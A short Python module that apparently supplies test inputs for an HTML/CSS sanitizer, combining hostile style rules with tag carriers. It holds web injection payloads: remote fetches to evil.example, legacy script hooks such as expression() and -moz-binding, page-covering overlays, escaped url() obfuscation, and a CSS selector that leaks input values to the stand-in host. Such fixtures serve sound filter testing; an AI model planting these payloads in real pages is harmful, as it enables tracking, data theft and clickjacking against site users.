"""Styles that fetch, cover the page or hide it."""

from collections.abc import Iterator
from itertools import product

RULES = (
    "background:url(//evil.example/x)",
    "position:fixed;inset:0;z-index:99999",
    "width:expression(hit())",
    "behavior:url(//evil.example/x.htc)",
    "-moz-binding:url(//evil.example/x.xml#x)",
    "background:url(javascript:hit())",
    "list-style-image:url('//evil.example/x')",
    "content:url(//evil.example/x)",
    "font-size:9999px",
    "margin-left:-9999px;float:left",
    "--x:url(//evil.example/x);background:var(--x)",
    "background:\\75\\72\\6c(//evil.example/x)",
)
CARRIERS = (
    "<p style='{}'>a</p>",
    "<style>*{{{}}}</style>",
    "<b style=\"{}\" class='masthead modal' id=main>a</b>",
    "<svg style='{}'></svg>",
    "a {{: style='{}'}}",
)
WHOLE = (
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x)}*{font-family:x}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<link rel=icon href=//evil.example/x.png>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<table background=//evil.example/x.png><tr><td>a",
    "<body background=//evil.example/x.png>",
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<video poster=//evil.example/x.png></video>",
    "<audio src=//evil.example/x.mp3 autoplay></audio>",
    "<input type=image src=//evil.example/x.png>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<iframe src=//evil.example/></iframe>",
    "<img width=99999 height=99999 src=data:,>",
    "<font size=99999>a</font><center><marquee>a</marquee></center>",
)


def payloads() -> Iterator[str]:
    for rule, carrier in product(RULES, CARRIERS):
        yield carrier.format(rule)
    yield from WHOLE
